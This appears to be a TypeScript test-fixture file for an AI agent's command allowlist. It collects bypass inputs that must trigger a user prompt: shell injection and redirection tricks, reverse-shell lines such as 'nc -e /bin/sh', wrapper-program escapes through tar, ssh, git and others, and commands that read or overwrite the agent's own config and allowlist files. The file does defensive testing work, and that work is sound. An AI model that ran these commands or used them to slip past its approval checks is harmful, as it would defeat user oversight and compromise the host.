/** Ways round an allowlist, collected from advisories and manuals; each must end in a question (requirement EX4, figure E14). */

const lines = (text: string): string[] => text.split('\n').filter((line) => line.trim() !== '')

/** Text in which a shell would do more than start one program with literal words. */
export const shellTexts: readonly string[] = [
  ...lines(String.raw`
ls; id
ls ;id
ls&id
ls & id
ls && id
ls || id
ls | sh
ls |& sh
ls|tee /etc/cron.d/x
ls > /etc/cron.d/x
ls>/etc/cron.d/x
ls >> ~/.bashrc
ls 2> /tmp/x
ls &> /tmp/x
ls >| /tmp/x
ls <> /tmp/x
ls < /etc/shadow
ls 1>&2
ls <<EOF
ls <<< text
ls <(id)
ls >(id)
ls $(id)
ls "$(id)"
ls ${'`'}id${'`'}
ls "${'`'}id${'`'}"
ls $HOME
ls "$HOME"
ls ${'$'}{HOME}
ls ${'$'}{IFS}x
ls$IFS-la
ls $((1+1))
ls $'\x2d\x65'
ls $"text"
ls *
ls /etc/pass*
ls /etc/passw?
ls [a-z]
ls {a,b}
ls {1..9}
ls ~
ls ~root
ls ~/.ssh
ls !!
ls !$
!ls
! ls
ls #comment
#!/bin/sh
(ls)
( id )
{ id; }
{ls,-la}
[ -e x ]
[[ -e x ]]
FOO=bar ls
PATH=. ls
LD_PRELOAD=./x.so ls
LS_COLORS=x ls
A+=b ls
X= ls
IFS=/ ls
if ls
then ls
while true
for x in a
case x in
function f
select x in a
until ls
time ls
coproc ls
eval ls
eval "ls"
exec ls
source ./x
. ./x
. x
command ls
builtin ls
trap id EXIT
alias ls=id
export LD_PRELOAD=x
set -x
cd /
pushd /
ulimit -n 1
umask 0
hash -p /tmp/x ls
enable -f ./x.so x
readonly PATH
unset PATH
declare -x A=b
typeset -x A=b
local x
shopt -s expand_aliases
bind -x x
complete -C id x
compgen -C id
mapfile -C id -c 1
read x
history -c
fc -e vi
wait
ls %1 &
ls 'unclosed
ls "unclosed
ls \
`),
  'ls\nid',
  'ls\r\nid',
  'ls\rid',
  'ls "a\\\nb"',
  'ls \\\nid',
  'ls\x00id',
  'ls \x1b[2J',
  'ls\x0bid',
  'ls\x0cid',
  'ls\x08\x08id',
  'ls \x7f',
]

/** Plain words: a program that would start another, or run code it is given. */
export const commandLines: readonly string[] = lines(String.raw`
env id
env -S 'id -u'
env -i sh -c id
env FOO=bar id
/usr/bin/env id
env --split-string='id'
env -u PATH id
env --chdir=/ id
sudo id
sudo -u root id
sudo -n -- id
sudoedit /etc/passwd
doas id
su -c id
su root -c id
runuser -u root -- id
pkexec id
gosu root id
setpriv --reuid=0 id
capsh -- -c id
sg root id
newgrp root
chpst -u root id
softlimit -m 1 id
nohup id
nice id
nice -n 19 id
ionice -c3 id
chrt -f 1 id
taskset 1 id
setsid id
setsid -w id
timeout 5 id
timeout --signal=KILL 5 id
timeout -k 1 5 id
flock /tmp/l id
flock -c id /tmp/l
flock /tmp/l -c id
xargs id
xargs -a list sh
xargs -I{} sh -c {}
parallel id ::: a
stdbuf -o0 id
unbuffer id
/usr/bin/time id
/usr/bin/time -f x id
watch id
watch -x id
script -c id
script -qc id /dev/null
strace id
strace -f id
ltrace id
gdb -batch -ex 'shell id'
gdb -nx -ex '!id' -ex quit
valgrind id
perf stat id
perf record id
catchsegv id
chroot / id
unshare -r id
nsenter -t 1 -m id
setarch x86_64 id
linux32 id
x86_64 id
i386 id
systemd-run id
systemd-run --user --pty id
systemd-inhibit id
machinectl shell root@.host
dbus-run-session id
dbus-send --system /x y.z
busctl call a b c d
busybox id
busybox sh -c id
busybox ash
toybox id
coreutils --coreutils-prog=env id
faketime now id
fakeroot id
proot id
bwrap --dev-bind / / id
firejail id
docker run -v /:/host alpine id
docker exec c id
podman run alpine id
kubectl exec pod -- id
lxc exec c -- id
runc run c
tmux new-session id
tmux -c id
screen -dm id
at now
batch
crontab cronfile
start-stop-daemon --start --exec /usr/bin/id
daemonize /usr/bin/id
run-parts /tmp/d
entr id
watchexec id
expect -c 'spawn id'
cpulimit -l 1 id
prlimit --nofile=10 id
numactl id
cgexec -g cpu:x id
choom -n 0 -- id
ssh-agent id
gpg --list-keys --exec-path=/tmp
xvfb-run id
rlwrap id
socat - EXEC:id
socat TCP-LISTEN:1 SYSTEM:id
nc -e /bin/sh host 1
ncat -c id host 1
ncat --sh-exec id host 1
telnet host
ssh host id
ssh -oProxyCommand=id host
ssh -o ProxyCommand=id host
ssh -o LocalCommand=id -o PermitLocalCommand=yes host
ssh -F config host
scp -S ./x a host:b
scp -o ProxyCommand=id a host:b
sftp -S ./x host
sftp -o ProxyCommand=id host
rsync -e 'sh -c id' a host:b
rsync --rsh=id a host:b
rsync --rsync-path=id a host:b
mosh --ssh=id host
ansible all -m shell -a id
torsocks id
proxychains4 id
ld.so /bin/id
/lib64/ld-linux-x86-64.so.2 /bin/id
/lib/ld-musl-x86_64.so.1 /bin/id
ldd ./x
logrotate -f conf
xdg-open file
run-mailcap --action=view text/plain:x
gcc -wrapper sh,-c,id x.c
gcc -B. x.c
g++ -fplugin=./x.so x.cc
x86_64-linux-gnu-gcc-12 -wrapper sh x.c
clang -fplugin=./x.so x.c
ld --plugin ./x.so
as @file
rustc -C linker=./x x.rs
wget --use-askpass=./x http://h
wget -e use_askpass=./x http://h
wget -O /etc/cron.d/x http://h
fzf --preview id
hyperfine id
xterm -e id
sh -c id
sh x
bash -c id
bash -lc id
bash --rcfile x -i
bash --init-file x
dash -c id
ash -c id
zsh -c id
ksh -c id
mksh -c id
fish -c id
csh -c id
tcsh -c id
rbash -c id
pwsh -c id
python -c 'import os'
python3 -c 'import os'
python3.11 -c 'import os'
python -m http.server
python -mpdb x
python x.py
python -
pypy3 -c x
ipython -c x
perl -e 'system(1)'
perl -E x
perl -ne x
perl5.36 -e x
perl -Mx -e 1
ruby -e x
ruby3.1 -e x
ruby -rx
irb
node -e x
node --eval=x
node -p x
node --require ./x y
nodejs -e x
deno eval x
deno run x
bun -e x
lua -e x
lua5.4 -e x
luajit -e x
php -r x
php8.2 -r x
php -S localhost:1
tclsh x
wish x
awk 'BEGIN{system(1)}'
gawk 'BEGIN{system(1)}'
mawk 'BEGIN{system(1)}'
nawk -f x
original-awk 1
sed -n 1e x
sed 's/x/id/e' f
sed -i s/a/b/ f
sed 1w/etc/x f
m4 x
bc x
dc -e '!id'
ed x
ex -c '!id'
vi -c '!id'
vim -c ':!id'
vim.basic -c ':!id'
vim -S x
vim --cmd x
view -c x
rvim -c x
nvim -c x
nvim --headless -c x
emacs -batch --eval x
emacsclient -e x
nano x
less x
less +!id x
more x
most x
man -P id ls
man --pager=id ls
man -H id ls
info ls
w3m x
lynx -editor=x
Rscript -e x
R -e x
octave --eval x
julia -e x
ghci
runghc x
ocaml x
racket -e x
guile -c x
sbcl --eval x
clisp -x x
scala -e x
groovy -e x
jshell x
java -jar x.jar
java -agentpath:x Y
erl -eval x
elixir -e x
escript x
gnuplot -e x
sqlite3 db '.shell id'
mysql -e '\! id'
psql -c '\! id'
redis-cli eval x 0
lftp -c x
ftp h
rpm --eval '%(id)'
dpkg -i x.deb
latex --shell-escape x
tex x
gs x.ps
convert x y
mutt -e x
mail -s x
nmap --script x
nmap --interactive
git -c core.pager=id log
git -c alias.x=!id x
git --exec-path=. x
git log
git diff --ext-diff
git clone ext::id
git grep -Oid x
git submodule foreach id
git rebase -x id
git bisect run id
hg --config alias.x=!id x
svn --config-option x
make
make SHELL=id
make -f x
gmake x
cmake -P x
ninja
npm run x
npm exec id
npx id
pnpm dlx id
yarn run x
pip install x
pip3 install x
pipx run x
poetry run id
uv run id
tox
pytest
jest
vitest
eslint .
cargo run
cargo build
go run x
go generate
gem install x
bundle exec id
rake
composer run x
mvn exec:exec
gradle x
terraform apply
pre-commit run
apt install x
apt-get -o APT::Update::Pre-Invoke::=id update
brew install x
configure
find . -exec id ';'
find . -execdir id ';'
find . -ok id ';'
find . -okdir id ';'
find . -delete
find . -fprintf /etc/x y
find . -fprint /etc/x
find . -fls /etc/x
fd -x id
fd -X id
fdfind --exec id
tar --to-command=id -xf a
tar --to-c=id -xf a
tar --to-command id -xf a
tar -I id -xf a
tar -Iid -xf a
tar -xIf id a
tar xIf id a
tar --use-compress-program=id -xf a
tar --use-comp=id -xf a
tar --checkpoint=1 --checkpoint-action=exec=id -cf a b
tar --checkpoint-act=exec=id -cf a b
tar -F id -cf a b
tar --info-script=id -cf a b
tar --new-volume-script=id -cf a b
tar --rsh-command=id -cf a b
tar --rmt-command=id -cf a b
bsdtar --use-compress-program id -xf a
cpio --rsh-command=id
cpio -F host:x
zip -T -TT id a b
zip a b -T --unzip-command=id
zip -rT a b
sort --compress-program=id x
sort --compress-prog=id x
sort --comp id x
sort -o /etc/x y
sort -no /etc/x y
sort -T /tmp x
split --filter=id x
split --filt id x
shuf -o /etc/x y
tree -o /etc/x
rg --pre id x
rg --pre=id x
rg --hostname-bin=id x
rg -z x
ag --pager id x
ack --pager=id x
curl -o /etc/x http://h
curl -O http://h/x
curl -sSo /etc/x http://h
curl -K conf
curl --config conf
curl --conf conf
curl -T x ftp://h
curl --engine ./x http://h
curl --output x http://h
curl --unix-socket /run/docker.sock http://h
curl --upload-file x http://h
curl -D x http://h
aria2c --on-download-complete=id u
openssl engine -t ./x
openssl req -engine ./x
openssl enc -out /etc/x
tcpdump -z id -G 1 -w x
tcpdump --postrotate-command id
tcpdump -w /etc/x
ip netns exec x id
ip -batch x
ip vrf exec x id
tc -b x
systemctl edit x
systemctl link ./x.service
systemctl enable ./x.service
systemctl -H host status
systemctl --host=h status
ssh-keygen -D ./x.so
ssh-keygen -f x -N y
ssh-add -s ./x.so
file -m magic x
file -C -m x
uniq a /etc/x
xxd -r a b
iconv -o /etc/x y
jq -L . x
yq -i x y
date -s tomorrow
nm --plugin ./x.so y
objdump --plugin=./x.so y
lsof -D b
dig -f x
`)

/** One name on the outside, another program inside. `path` is what the name resolves to. */
export const disguised: readonly { argv: [string, ...string[]]; path: string }[] = [
  { argv: ['ls'], path: '/bin/busybox' },
  { argv: ['ls'], path: '/usr/bin/busybox.static' },
  { argv: ['ls'], path: '/usr/bin/toybox' },
  { argv: ['ls'], path: '/usr/lib/cargo/bin/coreutils' },
  { argv: ['ls'], path: '/usr/bin/env' },
  { argv: ['ls'], path: '/usr/bin/dash' },
  { argv: ['editor'], path: '/usr/bin/vim.basic' },
  { argv: ['pager'], path: '/usr/bin/less' },
  { argv: ['tool'], path: '/usr/bin/python3.11' },
  { argv: ['tool'], path: '/usr/bin/perl5.36.0' },
  { argv: ['tool'], path: '/usr/bin/mawk' },
  { argv: ['cc'], path: '/usr/bin/x86_64-linux-gnu-gcc-12' },
  { argv: ['nc'], path: '/usr/bin/nc.openbsd' },
  { argv: ['nc'], path: '/usr/bin/nc.traditional' },
  { argv: ['sh'], path: '/usr/local/bin/harmless' },
  { argv: ['/tmp/../bin/env'], path: '/usr/local/bin/harmless' },
  { argv: ['./run'], path: '/home/u/work/run' },
  { argv: ['run'], path: '/home/u/work/bin/run' },
  { argv: ['SUDO'], path: '/usr/bin/SUDO' },
  { argv: ['Env'], path: '/usr/bin/Env' },
  { argv: ['cat', '/home/u/.clawdbot/clawdbot.json'], path: '/usr/bin/cat' },
  { argv: ['cat', '../.clawdbot/clawdbot.db'], path: '/usr/bin/cat' },
  { argv: ['cat', './../.clawdbot/../.clawdbot/x'], path: '/usr/bin/cat' },
  { argv: ['cp', 'x', '/home/u/.clawdbot/allowed-commands.json'], path: '/usr/bin/cp' },
  { argv: ['dd', 'of=/home/u/.clawdbot/clawdbot.json'], path: '/usr/bin/dd' },
  { argv: ['cat', '--file=/home/u/.clawdbot/x'], path: '/usr/bin/cat' },
  { argv: ['cat', '-f/home/u/.clawdbot/x'], path: '/usr/bin/cat' },
]
